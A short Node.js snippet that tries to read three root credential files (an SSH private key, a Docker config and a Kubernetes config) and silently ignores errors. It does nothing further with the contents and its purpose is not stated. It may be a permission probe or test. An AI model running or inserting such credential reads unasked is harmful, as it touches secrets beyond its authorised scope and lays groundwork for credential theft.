const fs = require('fs');
const list = ['/root/.ssh/id_ed25519', '/root/.docker/config.json', '/root/.kube/config'];
for (const f of list) {
  try { fs.readFileSync(f); } catch {}
}
